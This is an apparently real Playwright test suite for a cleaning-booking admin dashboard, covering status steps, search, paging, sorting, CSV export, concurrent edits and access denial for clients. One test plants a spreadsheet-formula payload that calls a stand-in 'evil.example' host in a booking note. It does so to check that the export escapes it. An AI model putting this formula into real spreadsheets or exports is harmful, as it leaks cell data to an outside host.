import { watch } from './support/actions';
import { axe } from './support/axe';
import { filled, adminTable } from './support/office';
import { bookCleaning, type Booking, callerOf, freeDays, newCustomer, stepMail } from './support/orders';
import { fitsPhone } from './support/phone';
import { demoAccount } from './support/platform';
import { anotherBrowser } from './support/sessions';
import { expect, test } from './support/test';
import { type Language, textsOf } from './support/texts';

const REQUESTED = 'CLEANING_BOOKING_STATUS_REQUESTED';
const CONFIRMED = 'CLEANING_BOOKING_STATUS_CONFIRMED';
const IN_PROGRESS = 'CLEANING_BOOKING_STATUS_IN_PROGRESS';
const CANCELLED = 'CLEANING_BOOKING_STATUS_CANCELLED';

/**
 * Steps of a visit before its day: the offered next steps, the note and the email that follows. A visit starts and ends
 * from its day on, and a booking is for tomorrow at the earliest. The service's tests cover the later steps.
 */
const way = [
  { from: REQUESTED, offered: [CONFIRMED, CANCELLED], to: CONFIRMED, note: 'Crew 2', mail: 'cleaning-confirmed' },
  {
    from: CONFIRMED,
    offered: [IN_PROGRESS, CANCELLED],
    to: CANCELLED,
    note: 'The crew is ill',
    mail: 'cleaning-cancelled',
  },
];

const firstOf = (days: string[]) => {
  const [day] = days;
  if (!day) throw new Error('There is no day with a free crew');
  return day;
};

// The admin and the customer use different languages.
for (const [language, spoken] of [
  ['en', 'ar'],
  ['ar', 'ti'],
] as const satisfies [Language, Language][]) {
  test.describe(() => {
    test.use({ as: 'admin', language });

    test(`moves a visit from request to its end, in ${language}, for a customer who reads ${spoken}`, async ({
      page,
    }) => {
      const customer = await newCustomer(page.request, spoken);
      const notes = 'The key is with the neighbour.';
      const booking = await bookCleaning(customer, {
        language: spoken,
        date: firstOf(await freeDays(customer)),
        notes,
      });
      await stepMail(customer, spoken, 'cleaning-requested', booking.id);

      const troubles = watch(page);
      const desk = adminTable(page, language, 'bookings');
      const { t, article, history } = desk;
      await page.goto('/admin?tab=bookings');

      await test.step('find it by the address of its customer', async () => {
        await desk.search(customer.email);
        await expect(desk.links).toHaveCount(1);
        const row = desk.list.getByRole('row').filter({ hasText: customer.email });
        await expect(row.getByText(t('admin:serviceType.SERVICE_TYPE_DEEP'))).toBeVisible();
        await expect(row.locator('[data-variant]')).toHaveText(t(`admin:bookingStatus.${REQUESTED}`));
        await axe(page, 'the list of bookings');
        await fitsPhone(page, 'the list of bookings');
      });

      await test.step('open it and read its details', async () => {
        await desk.links.click();
        await expect(article.getByRole('heading', { name: t('admin:serviceType.SERVICE_TYPE_DEEP') })).toBeFocused();
        await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
        await expect(article.getByRole('link', { name: '+1 403 555 0101' })).toHaveAttribute(
          'href',
          'tel:+14035550101',
        );
        await expect(article.getByText('12 Bow Trail SW')).toBeVisible();
        await expect(article.getByText(notes)).toBeVisible();
        await expect(history).toHaveCount(4);
        await axe(page, 'an open booking');
        await fitsPhone(page, 'an open booking');
      });

      for (const [index, { from, offered, to, note, mail }] of way.entries()) {
        await test.step(`move it on to ${to}`, async () => {
          await desk.stands(from);
          expect(await desk.offered()).toEqual(offered);
          if (from === CONFIRMED) {
            const start = article.locator(`input[type=radio][value=${IN_PROGRESS}]`);
            await expect(start).toBeDisabled();
            await axe(page, 'a booking before its day');
          }
          await desk.choose(to);
          if (note) await desk.note(t('admin:step.note'), note);
          await desk.save(to);
          await desk.stands(to);
          await expect(history.nth(index + 1)).toContainText(t(`admin:bookingStatus.${to}`));
          if (note) await expect(history.nth(index + 1)).toContainText(note);
          await expect(
            desk.list.getByRole('row').filter({ hasText: customer.email }).locator('[data-variant]'),
          ).toHaveText(t(`admin:bookingStatus.${to}`));
          await stepMail(customer, spoken, mail, booking.id);
        });
      }

      await test.step('the service rejects a start before the day', async () => {
        const admin = await callerOf(page.request, demoAccount('admin'));
        const other = await bookCleaning(customer, { language: spoken, date: firstOf(await freeDays(customer)) });
        const at = `/v1/cleaning/bookings/${other.id}`;
        const { etag } = await admin.patch<Booking>(at, { status: CONFIRMED, etag: other.etag });
        expect(await admin.statusOf('PATCH', at, { status: IN_PROGRESS, etag })).toBe(400);
      });

      await test.step('an ended visit offers no further step, also after a reload', async () => {
        await expect(article.getByText(t('admin:booking.ended'))).toBeVisible();
        await page.reload();
        await desk.stands(CANCELLED);
        await expect(history).toHaveCount(3);
        await expect(article.getByRole('radio')).toHaveCount(0);
        await axe(page, 'a booking that has ended');
      });
      expect(troubles).toEqual([]);
    });
  });
}

test.describe('the bookings list', () => {
  test.use({ as: 'admin' });

  test('searches, filters, sorts, pages and exports a long list', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const days = (await freeDays(customer)).slice(0, 4);
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
    const single = await bookCleaning(customer, { language: 'en', date: firstOf(days), notes: formula });
    const series: Booking[] = [];
    for (const date of days.slice(1)) {
      series.push(await bookCleaning(customer, { language: 'en', date, frequency: 'FREQUENCY_WEEKLY' }));
    }
    const { bookings } = await customer.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
    expect(bookings.length, 'more than one page of bookings').toBeGreaterThan(21);
    const dateOf = new Map(bookings.map(({ id, date }) => [id, date]));
    const sorted = (ids: string[]) => [...ids].sort();

    const desk = adminTable(page, 'en', 'bookings');
    const { t } = desk;
    await page.goto('/admin?tab=bookings');
    await desk.search(customer.email);

    await test.step('two pages hold every booking once, and Back leads to the first', async () => {
      await expect(desk.links).toHaveCount(20);
      const first = await desk.ids();
      await page.getByRole('button', { name: t('common:pager.next') }).click();
      await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
      await expect(desk.links).toHaveCount(bookings.length - 20);
      const second = await desk.ids();
      expect(sorted([...first, ...second])).toEqual(sorted([...dateOf.keys()]));
      await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
      await page.getByRole('button', { name: t('common:pager.previous') }).click();
      await expect(desk.links).toHaveCount(20);
      expect(await desk.ids()).toEqual(first);
    });

    await test.step('sort by the earliest visit, across both pages', async () => {
      const order = page.getByLabel(t('admin:desk.order'), { exact: true });
      await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_SOONEST');
      const soonest = [...dateOf.values()].sort();
      const dates = async () => (await desk.ids()).map((id) => dateOf.get(id));
      await expect.poll(dates).toEqual(soonest.slice(0, 20));
      await page.getByRole('button', { name: t('common:pager.next') }).click();
      await expect.poll(dates).toEqual(soonest.slice(20));
      // A new sort order starts at the first page.
      await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_LATEST');
      await expect.poll(dates).toEqual(soonest.toReversed().slice(0, 20));
    });

    await test.step('one day of visits', async () => {
      await page.getByLabel(t('admin:booking.from')).fill(single.date);
      await page.getByLabel(t('admin:booking.to')).fill(single.date);
      const thatDay = bookings.filter(({ date }) => date === single.date).map(({ id }) => id);
      await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
      await page.reload();
      await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
      await page.getByRole('button', { name: t('admin:desk.clear') }).click();
      await expect(page.getByRole('searchbox')).toHaveValue('');
      await desk.search(customer.email);
    });

    await test.step('filter by status; the export follows, without formulas', async () => {
      const admin = await callerOf(page.request, demoAccount('admin'));
      await admin.patch(`/v1/cleaning/bookings/${single.id}`, { status: CONFIRMED, etag: single.etag });
      await page.getByLabel(t('admin:desk.status')).selectOption(CONFIRMED);
      await expect.poll(desk.ids).toEqual([single.id]);
      const confirmed = await desk.exported();
      expect(confirmed.name).toMatch(/^cleaning-bookings-\d{4}-\d\d-\d\d\.csv$/);
      expect(confirmed.column('id')).toEqual([single.id]);
      expect(confirmed.column('status')).toEqual(['confirmed']);
      expect(confirmed.column('notes')).toEqual([`'${formula}`]);
      expect(confirmed.column('phone')).toEqual(["'+1 403 555 0101"]);

      // The export holds the whole list in its order, including the second page.
      await page
        .getByLabel(t('admin:desk.status'))
        .selectOption(t('admin:bookingStatus.CLEANING_BOOKING_STATUS_UNSPECIFIED'));
      await expect(desk.links).toHaveCount(20);
      const all = await desk.exported();
      expect(sorted(all.column('id'))).toEqual(sorted([...dateOf.keys()]));
      expect(all.column('date')).toEqual([...dateOf.values()].sort().reverse());
      expect(new Set(all.column('email'))).toEqual(new Set([customer.email]));
    });

    await test.step('a search without results shows a message and can be cleared', async () => {
      await desk.search(`unknown.${customer.email}`);
      await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
      await axe(page, 'a list in which nothing fits');
      await fitsPhone(page, 'a list in which nothing fits');
      await page
        .getByRole('button', { name: t('admin:desk.clear') })
        .first()
        .click();
      await expect(desk.links.first()).toBeVisible();
      await expect(page.getByRole('searchbox')).toHaveValue('');
    });

    // Frees the slots for the next run.
    for (const { id } of series) await customer.post(`/v1/cleaning/bookings/${id}:cancel`, { series: true });
    await customer.post(`/v1/cleaning/bookings/${single.id}:cancel`, {});
  });

  test('shows the fresh booking after a concurrent change and keeps the input', async ({ page, browser }) => {
    const customer = await newCustomer(page.request);
    const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
    const at = `/admin?tab=bookings&open=${booking.id}`;
    const desk = adminTable(page, 'en', 'bookings');
    const { t, article } = desk;
    await page.goto(at);
    await desk.stands(REQUESTED);
    await desk.choose(CONFIRMED);
    await desk.note(t('admin:step.note'), 'Crew 4');

    const second = await anotherBrowser(browser, 'admin');
    const other = adminTable(second.page, 'en', 'bookings');
    await test.step('a second window confirms it in the meantime', async () => {
      await other.page.goto(at);
      await other.stands(REQUESTED);
      await other.choose(CONFIRMED);
      await other.save(CONFIRMED);
    });

    await test.step('the first window is notified and shows the current status', async () => {
      await article.getByRole('button', { name: t('admin:step.save') }).click();
      await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
      const status = t(`admin:bookingStatus.${CONFIRMED}`);
      await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
      await desk.stands(CONFIRMED);
      expect(await desk.offered()).toEqual([IN_PROGRESS, CANCELLED]);
      await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Crew 4');
      await axe(page, 'a booking changed by another admin');
      await fitsPhone(page, 'a booking changed by another admin');
    });

    await test.step('the next step is saved on the fresh booking, and it offers no further step', async () => {
      await other.page.reload();
      await other.stands(CONFIRMED);
      await desk.choose(CANCELLED);
      await desk.save(CANCELLED);
      await expect(desk.history.nth(2)).toContainText('Crew 4');
      await expect(article.getByText(t('admin:booking.ended'))).toBeFocused();
    });

    await test.step('a booking that ended in the meantime offers no step', async () => {
      await other.choose(CANCELLED);
      await other.article.getByRole('button', { name: t('admin:step.save') }).click();
      const status = t(`admin:bookingStatus.${CANCELLED}`);
      await expect(other.article.getByText(filled(t('admin:step.overtakenEnd'), { status }))).toBeVisible();
      await expect(other.article.getByRole('radio')).toHaveCount(0);
    });
    await second.done();
  });
});

test.describe('a client', () => {
  test.use({ as: 'client' });

  test('cannot open the dashboard', async ({ page }) => {
    const customer = await newCustomer(page.request);
    const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
    const at = `/v1/cleaning/bookings/${booking.id}`;
    const client = await callerOf(page.request, demoAccount('client'));
    expect(await client.statusOf('GET', at)).toBe(404);
    expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: booking.etag })).toBe(403);
    expect(await client.statusOf('GET', '/v1/cleaning/bookings:export')).toBe(403);
    const found = await client.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
    expect(found.bookings.map(({ id }) => id)).not.toContain(booking.id);

    const calls: string[] = [];
    page.on('request', (request) => calls.push(new URL(request.url()).pathname));
    await page.goto(`/admin?tab=bookings&open=${booking.id}`);
    await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
    await expect(page.getByRole('navigation', { name: textsOf('en')('admin:tabs') })).toHaveCount(0);
    await expect(page.getByText(customer.email)).toHaveCount(0);
    expect(calls.filter((path) => path.startsWith('/v1/cleaning'))).toEqual([]);
    await customer.post(`${at}:cancel`, {});
  });
});
